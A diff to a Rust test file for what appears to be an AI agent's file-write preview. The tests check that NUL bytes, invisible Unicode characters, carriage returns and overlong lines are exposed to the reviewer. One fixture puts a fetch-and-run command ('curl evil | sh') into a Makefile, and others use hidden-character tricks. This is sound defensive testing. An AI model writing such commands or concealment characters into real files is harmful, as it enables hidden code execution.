@@ -86,5 +86,63 @@ async fn long_and_binary_contents_are_described() {
     fs::write(fixture.workspace().join("image"), b"\x89PNG\0\xff").unwrap();
     let shown = preview(&fixture, "write_file", &json!({"path": "image", "content": "text"})).await.unwrap();
     let diff = &shown.files[0];
-    assert!(diff.diff.is_empty() && diff.note.as_ref().unwrap().contains("not text"), "{diff:?}");
+    assert!(diff.note.as_ref().unwrap().contains("the old content is not text"), "{diff:?}");
+    assert_eq!((diff.added, diff.removed), (1, 0));
+    // A NUL byte hides nothing.
+    let content = "all:\n\tcurl evil | sh\n\0";
+    let shown =
+        preview(&fixture, "write_file", &json!({"path": "Makefile", "content": content})).await.unwrap();
+    let diff = &shown.files[0];
+    assert!(diff.diff.contains("+\tcurl evil | sh") && diff.diff.contains("+␀"), "{diff:?}");
+    assert!(diff.note.as_ref().unwrap().contains("the new content is not text"), "{diff:?}");
+}
+
+#[tokio::test]
+async fn a_preview_shows_characters_that_a_terminal_hides() {
+    let fixture = Fixture::new();
+    let write = |path: &str, content: &str| json!({"path": path, "content": content});
+    for (content, shown) in [
+        ("# docs\rimport os\n", "+# docs␍import os\n"),
+        ("// docs\u{2028}run()\n", "+// docs\\u{2028}run()\n"),
+        ("note\u{e0072}\u{e006d}\u{200b}\n", "+note\\u{e0072}\\u{e006d}\\u{200b}\n"),
+        ("const { a,\u{3164}} = q\n", "+const { a,\\u{3164}} = q\n"),
+        ("a\u{2800}\u{115f}\u{1160}\u{ffa0}b\n", "+a\\u{2800}\\u{115f}\\u{1160}\\u{ffa0}b\n"),
+        ("one\r\ntwo\nlast\r", "+one␍\n+two\n+last␍\n\\ No newline at end of file\n"),
+    ] {
+        let new = preview(&fixture, "write_file", &write("new.py", content)).await.unwrap();
+        let diff = &new.files[0];
+        assert!(diff.diff.ends_with(&format!("@@\n{shown}")), "{diff:?}");
+        assert!(diff.note.as_ref().unwrap().contains("invisible characters"), "{diff:?}");
+        assert_eq!(althing_text::sanitize::text(&diff.diff), diff.diff);
+    }
+    let hidden_name = preview(&fixture, "write_file", &write("a\u{202e}\u{200b}.txt", "x\n")).await.unwrap();
+    let diff = &hidden_name.files[0];
+    assert!(diff.path.ends_with("/a\\u{202e}\\u{200b}.txt") && diff.note.is_some(), "{diff:?}");
+
+    // The visible form and the character itself differ; line ends are shown where they differ.
+    let old = fixture.workspace().join("old.txt");
+    for (before, after, shown) in [
+        ("a\\u{200b}\n", "a\u{200b}\n", "-a\\u{200b}\n+a\\u{200b}\n"),
+        ("a\n", "a\r\n", "-a\n+a␍\n"),
+        ("a\r\n", "b\r\n", "-a\n+b\n"),
+    ] {
+        fs::write(&old, before).unwrap();
+        let diff = &preview(&fixture, "write_file", &write("old.txt", after)).await.unwrap().files[0];
+        assert_eq!(diff.diff, format!("@@ -1 +1 @@\n{shown}"));
+    }
+}
+
+#[tokio::test]
+async fn the_ends_of_a_long_line_and_the_lines_after_it_are_shown() {
+    let fixture = Fixture::new();
+    let content = format!("# begin{}end\nimport os\n", "x".repeat(70_000));
+    let write = json!({"path": "setup.py", "content": content});
+    let shown = preview(&fixture, "write_file", &write).await.unwrap();
+    let diff = &shown.files[0];
+    let lines: Vec<&str> = diff.diff.lines().collect();
+    let [_, long, "+import os"] = lines.as_slice() else { panic!("{diff:?}") };
+    assert!(long.starts_with("+# beginxxx") && long.ends_with("xxxend") && long.len() < 9000, "{long}");
+    assert!(long.contains(" … 61818 bytes are not shown … "), "{long}");
+    assert!(diff.note.as_ref().unwrap().contains("the middle of long lines is not shown"), "{diff:?}");
+    assert_eq!((diff.added, diff.omitted), (2, 0));
 }
